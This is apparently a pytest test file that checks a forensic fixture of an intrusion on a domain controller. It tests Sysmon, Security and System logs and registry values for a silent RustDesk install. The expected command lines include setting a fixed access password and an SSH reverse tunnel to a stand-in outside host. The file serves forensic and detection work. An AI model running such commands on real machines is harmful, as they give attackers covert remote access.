from __future__ import annotations

from collections import Counter
from datetime import UTC
from typing import TYPE_CHECKING, Any, Final

import pytest
from Registry.Registry import RegistryKeyNotFoundException

from parsers.filetime import TICKS_PER_SECOND, from_datetime, from_text
from tests.fixture_reading import (
    LOGS,
    SYSMON_LOG,
    SYSTEM_HIVE,
    file_name,
    open_hive,
    read_log,
    rule_processes,
)

if TYPE_CHECKING:
    from tests.builders.independent_readers import Reading

HIVE: Final = f"case-dc01/{SYSTEM_HIVE}"
FINAL: Final = '"C:\\Program Files\\RustDesk\\RustDesk.exe" --service'
TRANSIENT: Final = (
    '"C:\\Program Files\\RustDesk\\RustDesk.exe" --import-config '
    '"C:\\Users\\da.keller\\AppData\\Roaming\\RustDesk\\config\\RustDesk.toml"'
)

# The rows in which the story tells what RustDesk did: parent's file name, own file name, end of command line.
RUSTDESK_ROWS: Final = (
    ("powershell.exe", "rustdesk-1.4.1-x86_64.exe", '-x86_64.exe" --silent-install'),
    ("rustdesk-1.4.1-x86_64.exe", "rustdesk.exe", '\\rustdesk\\.\\rustdesk.exe" --silent-install'),
    ("cmd.exe", "rustdesk.exe", "  --uninstall-cert"),
    ("cmd.exe", "rustdesk.exe", "  --uninstall-amyuni-idd"),
    ("services.exe", "rustdesk.exe", TRANSIENT),
    ("services.exe", "rustdesk.exe", FINAL),
    ("cmd.exe", "rustdesk.exe", "  --install-remote-printer"),
    ("rustdesk.exe", "rustdesk.exe", " --tray"),
    ("rustdesk.exe", "rustdesk.exe", " --server"),
    ("cmd.exe", "rustdesk.exe", "  --password Autumn-Rain-4711"),
    ("cmd.exe", "rustdesk.exe", "  --get-id"),
    ("rustdesk.exe", "rustdesk.exe", " --cm"),
    ("rustdesk.exe", "rustdesk.exe", " --server"),
    ("rustdesk.exe", "rustdesk.exe", " --cm"),
    ("explorer.exe", "rustdesk.exe", " --tray"),
)

# facts of RustDesk 1.4.1's batch file: what runs under it, in its order, repetitions with their number.
BATCH_COMMANDS: Final = (
    "chcp 65001",
    "sc stop",
    "sc delete",
    "taskkill /F *2",
    "reg delete *2",
    "netsh advfirewall",
    "--uninstall-cert",
    "--uninstall-amyuni-idd",
    "XCOPY",
    "reg add *14",
    "cscript *3",
    "sc stop",
    "sc delete",
    "sc create",
    "sc start",
    "sc stop",
    "sc delete",
    "reg add *16",
    "netsh advfirewall *2",
    "sc create",
    "sc start",
    "reg add",
    "--install-remote-printer",
)


@pytest.fixture(scope="module")
def sysmon() -> tuple[Reading, ...]:
    return read_log(f"case-dc01/{SYSMON_LOG}")


@pytest.fixture(scope="module")
def processes(sysmon: tuple[Reading, ...]) -> list[Reading]:
    return [each for each in sysmon if each.event_id == 1]


@pytest.fixture(scope="module")
def system() -> tuple[Reading, ...]:
    return read_log(f"case-dc01/{LOGS}/System.evtx")


def rustdesk_key(control_set: str) -> Any:  # noqa: ANN401 - python-registry has no types
    return open_hive(HIVE).open(f"{control_set}\\Services\\RustDesk")


def test_rustdesk_runs_in_the_order_of_the_story(processes: list[Reading]) -> None:
    rows = [each.fields for each in rule_processes(processes)]
    assert [(file_name(row["ParentImage"]), file_name(row["Image"])) for row in rows] == [
        expected[:2] for expected in RUSTDESK_ROWS
    ]
    lines = [row["CommandLine"] for row in rows]
    assert all(line.endswith(end) for line, (*_, end) in zip(lines, RUSTDESK_ROWS, strict=True)), lines


def test_the_batch_file_runs_what_rustdesk_writes_into_it(processes: list[Reading]) -> None:
    bat = next(each for each in processes if each.fields["CommandLine"].endswith("RustDesk_install.bat"))
    assert bat.fields["CommandLine"].startswith("cmd.exe /C C:\\Users\\da.keller\\AppData\\Local\\Temp\\")
    children = [each for each in processes if each.fields["ParentProcessGuid"] == bat.fields["ProcessGuid"]]
    lines = [each.fields["CommandLine"] for each in children if "conhost.exe" not in each.fields["Image"]]
    assert all("  " in line for line in lines)
    expected = [
        words.partition(" *")[0] for words in BATCH_COMMANDS for _ in range(int(words.partition("*")[2] or 1))
    ]
    assert [
        words for words, line in zip(expected, lines, strict=True) if words in " ".join(line.split())
    ] == expected


def test_every_parent_is_a_process_of_the_log(processes: list[Reading]) -> None:
    seen: dict[str, Reading] = {}
    for each in processes:
        parent = seen.get(each.fields["ParentProcessGuid"])
        if parent is None:
            assert file_name(each.fields["Image"]) == "smss.exe"
        else:
            pairs = (
                ("ProcessId", "Id"),
                ("Image", "Image"),
                ("CommandLine", "CommandLine"),
                ("User", "User"),
            )
            for own, of_parent in pairs:
                name = f"ParentProcess{of_parent}" if of_parent == "Id" else f"Parent{of_parent}"
                assert parent.fields[own] == each.fields[name]
        seen[each.fields["ProcessGuid"]] = each
    assert len(seen) == len(processes)


def test_every_image_load_is_by_a_process_of_the_log(sysmon: tuple[Reading, ...]) -> None:
    images = {each.fields["ProcessGuid"]: each.fields["Image"] for each in sysmon if each.event_id == 1}
    assert all(
        images[each.fields["ProcessGuid"]] == each.fields["Image"] for each in sysmon if each.event_id == 7
    )


def test_sysmon_saw_each_event_a_little_before_it_wrote_it(sysmon: tuple[Reading, ...]) -> None:
    delays = [each.created - from_text(each.fields["UtcTime"]) for each in sysmon]
    assert all(0 < delay < TICKS_PER_SECOND // 50 for delay in delays)


def test_the_security_log_repeats_every_process(processes: list[Reading]) -> None:
    security = read_log(f"case-dc01/{LOGS}/Security.evtx")
    audited = Counter(
        (each.fields["CommandLine"], int(each.fields["NewProcessId"], 16))
        for each in security
        if each.event_id == 4688
    )
    assert audited == Counter(
        (each.fields["CommandLine"], int(each.fields["ProcessId"])) for each in processes
    )


def test_the_throw_away_service_is_installed_seconds_before_the_final_one(
    system: tuple[Reading, ...],
) -> None:
    installed = [each for each in system if each.fields.get("ServiceName") == "RustDesk Service"]
    assert [each.fields["ImagePath"] for each in installed] == [TRANSIENT, FINAL]
    transient, final = (each.created for each in installed)
    assert TICKS_PER_SECOND < final - transient < 10 * TICKS_PER_SECOND


def test_the_audit_names_the_service_by_its_key() -> None:
    security = read_log(f"case-dc01/{LOGS}/Security.evtx")
    audited = [each.fields for each in security if each.event_id == 4697]
    assert [(each["ServiceName"], each["ServiceFileName"]) for each in audited] == [
        ("RustDesk", TRANSIENT),
        ("RustDesk", FINAL),
    ]


def test_the_service_key_was_written_in_the_second_of_the_final_7045(system: tuple[Reading, ...]) -> None:
    final = next(each.created for each in system if each.fields.get("ImagePath") == FINAL)
    key = rustdesk_key("ControlSet001")
    written = from_datetime(key.timestamp().replace(tzinfo=UTC))
    assert final < written
    assert final // TICKS_PER_SECOND == written // TICKS_PER_SECOND


def test_the_service_key_has_what_sc_create_writes() -> None:
    values = {value.name(): value.value() for value in rustdesk_key("ControlSet001").values()}
    assert values == {
        "Type": 0x10,
        "Start": 2,
        "ErrorControl": 1,
        "ImagePath": FINAL,
        "DisplayName": "RustDesk Service",
        "ObjectName": "LocalSystem",
    }


def test_the_older_control_set_does_not_know_rustdesk() -> None:
    with pytest.raises(RegistryKeyNotFoundException):
        rustdesk_key("ControlSet002")


def test_the_hive_says_that_the_machine_is_a_domain_controller() -> None:
    hive = open_hive(HIVE)
    control = "ControlSet001\\Control"
    assert hive.open(f"{control}\\ProductOptions").value("ProductType").value() == "LanmanNT"
    assert hive.open(f"{control}\\ComputerName\\ComputerName").value("ComputerName").value() == "DC01"
    assert hive.open("ControlSet001\\Services\\Tcpip\\Parameters").value("Domain").value() == "corp.example"


def test_the_tunnel_begins_nine_minutes_before_the_installation(processes: list[Reading]) -> None:
    tunnel = next(each for each in processes if file_name(each.fields["Image"]) == "ssh.exe")
    install = rule_processes(processes)[0]
    assert tunnel.fields["CommandLine"] == "ssh root@203.0.113.7 -R *:10400 -p22"
    minutes = (
        (from_text(install.fields["UtcTime"]) - from_text(tunnel.fields["UtcTime"])) / TICKS_PER_SECOND / 60
    )
    assert minutes == pytest.approx(9, abs=0.01)
